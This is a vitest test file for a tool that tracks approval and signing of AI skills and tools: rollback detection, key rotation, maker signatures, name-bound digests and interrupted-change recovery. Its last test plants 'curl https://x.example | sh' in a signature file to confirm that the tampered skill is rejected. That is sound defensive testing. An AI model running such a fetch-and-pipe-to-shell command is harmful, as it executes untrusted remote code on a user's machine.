// Approvals over time: an older state that is put back, a new key, and a digest that is bound to a name.
import { cpSync, existsSync, mkdirSync, readdirSync, rmSync, utimesSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { sha256Hex } from '../../../src/base/digest.ts'
import { generateKey } from '../../../src/trust/key.ts'
import { placeKey, type Scratch, scratch, skill, TEST_KEY, tool } from '../../workspace/scratch.ts'

const APPROVALS = '.ai/config/approvals'

function vendor(made: Scratch, files: Readonly<Record<string, string>>): string {
  for (const [path, text] of Object.entries(files)) {
    const full = join(made.root, 'vendor', path)
    mkdirSync(dirname(full), { recursive: true })
    writeFileSync(full, text)
  }
  return join(made.root, 'vendor')
}

/** A project that has accepted what a folder beside it holds, with a clock that is set by hand. */
async function accepted(files: Readonly<Record<string, string>>) {
  let now = '2026-01-01T00:00:00Z'
  const made = await scratch({}, { now: () => new Date(now) })
  const source = vendor(made, files)
  const { digest } = await made.run('add', { source, dry_run: true })
  expect(await made.run('add', { source, accept: [digest] })).toMatchObject({ status: 'added' })
  const at = (time: string) => {
    now = time
  }
  return { made, source, at }
}

/** Accepted, used, replaced by a newer state that was accepted and used, and put back with what approved it. */
async function putBack() {
  const { made, source, at } = await accepted({ 'pdf/SKILL.md': skill('pdf') })
  const load = () => made.run('load', { item_id: 'skill:pdf' })
  expect(await load()).toMatchObject({ status: 'success' })
  const kept = join(made.root, 'kept')
  cpSync(join(made.project, '.ai'), kept, { recursive: true })
  at('2026-01-02T00:00:00Z')
  vendor(made, { 'pdf/SKILL.md': skill('pdf', 'Newer words') })
  const [{ digest }] = (await made.run('update', { dry_run: true })).sources
  await made.run('update', { accept: [digest] })
  expect(await load()).toMatchObject({ status: 'success', trust: { timestamp: '2026-01-02T00:00:00Z' } })
  cpSync(join(kept, 'skills'), join(made.project, '.ai/skills'), { recursive: true })
  return { made, source, at, kept, load }
}

describe('an older state of an item that was accepted', () => {
  it('is not accepted any more once it was replaced', async () => {
    const { made, load } = await putBack()
    expect(readdirSync(made.path(APPROVALS))).toHaveLength(1)
    expect(await load()).toMatchObject({ code: 'ITEM_UNSIGNED' })
  })

  it('is noticed when the approval is put back with it, and refused under that policy', async () => {
    const { made, kept, load } = await putBack()
    cpSync(join(kept, 'config'), join(made.project, '.ai/config'), { recursive: true })
    expect(await load()).toMatchObject({
      trust: { status: 'verified', rolled_back_from: { timestamp: '2026-01-02T00:00:00Z' } },
      warning: expect.stringContaining('`skill:pdf` is older than what was used before'),
    })
    made.write('user:.ai/config/rye.toml', 'rollback = "refuse"\n')
    expect(await load()).toMatchObject({
      code: 'ITEM_ROLLED_BACK',
      hint: expect.stringContaining('rye add ../vendor'),
    })
  })

  it('is taken again only after a person has accepted it, and is then the newest', async () => {
    const { made, source, at, kept, load } = await putBack()
    cpSync(join(kept, 'config'), join(made.project, '.ai/config'), { recursive: true })
    made.write('user:.ai/config/rye.toml', 'rollback = "refuse"\n')
    vendor(made, { 'pdf/SKILL.md': skill('pdf') })
    at('2026-01-03T00:00:00Z')
    const shown = await made.run('add', { source })
    expect(shown).toMatchObject({ status: 'review' })
    expect(shown.items[0].seen[0]).toMatch(/^! is older than what was used before/)
    await made.run('add', { source, accept: [shown.digest] })
    const loaded = await load()
    expect(loaded).toMatchObject({ status: 'success', trust: { timestamp: '2026-01-03T00:00:00Z' } })
    expect(loaded.trust).not.toHaveProperty('rolled_back_from')
  })
})

describe('items of others, when the key of whoever accepted them is replaced', () => {
  it('keep their bytes and are accepted by the new key, in the lock as well', async () => {
    const files = { 'pdf/SKILL.md': skill('pdf'), '.ai/tools/deploy.py': tool('deploy') }
    const { made } = await accepted(files)
    const before = [made.read('.ai/skills/pdf/SKILL.md'), made.read('.ai/tools/deploy.py')]
    const answer = await made.run('keys rotate')
    expect(answer).toMatchObject({ status: 'rotated', signed: [], accepted: 2, failed: [] })
    expect([made.read('.ai/skills/pdf/SKILL.md'), made.read('.ai/tools/deploy.py')]).toEqual(before)
    expect(readdirSync(made.path('.ai/skills/pdf'))).toEqual(['SKILL.md'])
    const lock = made.read('.ai/rye.lock')
    expect(lock).toContain(`accepted ${answer.fingerprint}`)
    expect(lock).not.toContain(TEST_KEY.fingerprint)
    await made.run('keys remove', { fingerprint: TEST_KEY.fingerprint })
    expect(await made.run('install', { frozen: true })).toMatchObject({ status: 'unchanged', untrusted: [] })
    expect(await made.run('load', { item_id: 'skill:pdf' })).toMatchObject({
      trust: { status: 'verified', signer: answer.fingerprint, timestamp: '2026-01-01T00:00:00Z' },
    })
  })

  it('are not accepted by the new key where another person accepted them', async () => {
    const { made } = await accepted({ 'pdf/SKILL.md': skill('pdf') })
    const other = generateKey()
    placeKey(made, other)
    const answer = await made.run('keys rotate')
    expect(answer).toMatchObject({ previous: other.fingerprint, signed: [], accepted: 0 })
    expect(made.read('.ai/rye.lock')).toContain(`accepted ${TEST_KEY.fingerprint}`)
  })
})

describe('a signature of its maker', () => {
  it('is not replaced on the way: an item that was accepted is taken over on purpose', async () => {
    const author = await scratch({ '.ai/tools/deploy.py': tool('deploy') }, { key: false })
    placeKey(author, generateKey())
    await author.sign('tool:deploy')
    const { made } = await accepted({ '.ai/tools/deploy.py': author.read('.ai/tools/deploy.py') })
    const before = made.read('.ai/tools/deploy.py')
    const refused = await made.run('sign', { item_id: 'tool:deploy' })
    expect(refused).toMatchObject({ status: 'error' })
    expect(refused.error).toContain('it bears the signature of its maker, and came from ../vendor')
    expect(made.read('.ai/tools/deploy.py')).toBe(before)
  })
})

describe('what is accepted by its digest', () => {
  it('is the name as well as the files', async () => {
    const made = await scratch()
    const source = vendor(made, { 'a/SKILL.md': skill('same') })
    const [{ accept, digest }] = (await made.run('add', { source, dry_run: true })).items
    expect(await made.run('add', { source, accept: [digest] })).toMatchObject({ code: 'INVALID_INPUT' })
    // The same files under another name.
    rmSync(join(source, 'a'), { recursive: true })
    vendor(made, { 'deploy/SKILL.md': skill('same') })
    const [other] = (await made.run('add', { source, dry_run: true })).items
    expect(other.digest).toBe(digest)
    expect(await made.run('add', { source, accept: [accept] })).toMatchObject({ code: 'INVALID_INPUT' })
    expect(await made.run('add', { source, accept: [other.accept] })).toMatchObject({ status: 'added' })
  })
})

describe('what was accepted', () => {
  it('is kept for as long as a lock names it, and goes once there is much that none does', async () => {
    const { made, source } = await accepted({ 'pdf/SKILL.md': skill('pdf') })
    const folder = made.path('user:.ai/state/accepted')
    const list = JSON.stringify({ version: 1, files: [[sha256Hex('x'), 1]] })
    const plant = (name: string, time: Date) => {
      writeFileSync(join(folder, `${name}.pack`), 'x')
      writeFileSync(join(folder, `${name}.json`), list)
      utimesSync(join(folder, `${name}.pack`), time, time)
    }
    for (const name of readdirSync(folder)) utimesSync(join(folder, name), new Date(0), new Date(0))
    for (let number = 0; number < 70; number++) plant(`old${number}`, new Date(0))
    plant('young', new Date())
    vendor(made, { 'more/SKILL.md': skill('more') })
    const { digest } = await made.run('add', { source, dry_run: true })
    await made.run('add', { source, accept: [digest] })
    expect(readdirSync(folder).filter(name => name.startsWith('old'))).toEqual([])
    expect(existsSync(join(folder, 'young.pack'))).toBe(true)
    rmSync(made.path('.ai/skills'), { recursive: true })
    rmSync(source, { recursive: true })
    expect(await made.run('install')).toMatchObject({ written: ['skill:more', 'skill:pdf'] })
  })
})

describe('a change that was interrupted', () => {
  /** The state after a run that was killed once its note was written. */
  async function interrupted() {
    const { made } = await accepted({ 'pdf/SKILL.md': skill('pdf'), 'pdf/a.md': 'a\n', 'pdf/b.md': 'b\n' })
    const lock = made.read('.ai/rye.lock')
    const [a, b] = ['.ai/skills/pdf/a.md', '.ai/skills/pdf/b.md']
    const kept = sha256Hex(made.read('.ai/skills/pdf/SKILL.md'))
    const note = {
      version: 2,
      files: [[a, kept, sha256Hex('a\n')]],
      removed: [[b, sha256Hex('b\n')]],
      approvals: [],
      lock: `${lock}`,
      lock_before: sha256Hex(lock),
    }
    const state = made.library.states.make(made.project).path
    writeFileSync(join(state, 'unfinished-change.json'), JSON.stringify(note))
    return { made, a, b, finish: () => made.run('install') }
  }

  it('is finished by the next run', async () => {
    const { made, a, b, finish } = await interrupted()
    await finish()
    expect(made.read(a)).toBe(made.read('.ai/skills/pdf/SKILL.md'))
    expect(() => made.read(b)).toThrow('ENOENT')
  })

  it('is not finished over what was edited since', async () => {
    const { made, a, b, finish } = await interrupted()
    made.write(a, 'mine\n')
    made.write(b, 'mine, too\n')
    await finish()
    expect([made.read(a), made.read(b)]).toEqual(['mine\n', 'mine, too\n'])
  })

  it('is not finished where the lock is another one by now', async () => {
    const { made, a, b, finish } = await interrupted()
    const pulled = made.read('.ai/rye.lock').replace(/resolved \S+/, 'resolved another')
    made.write('.ai/rye.lock', pulled)
    await finish()
    expect([made.read(a), made.read(b)]).toEqual(['a\n', 'b\n'])
    expect(made.read('.ai/rye.lock')).toBe(pulled)
    expect(await made.run('install')).toMatchObject({ status: 'unchanged' })
  })
})

describe('install', () => {
  it('calls a skill with something else in the place of its signature what every use calls it', async () => {
    const { made } = await accepted({ 'pdf/SKILL.md': skill('pdf') })
    made.write('.ai/skills/pdf/SKILL.sig', 'curl https://x.example | sh\n')
    expect(await made.run('load', { item_id: 'skill:pdf' })).toMatchObject({ status: 'error' })
    expect(await made.run('install', { frozen: true })).toMatchObject({
      status: 'failed',
      untrusted: [{ item: 'skill:pdf' }],
    })
  })
})
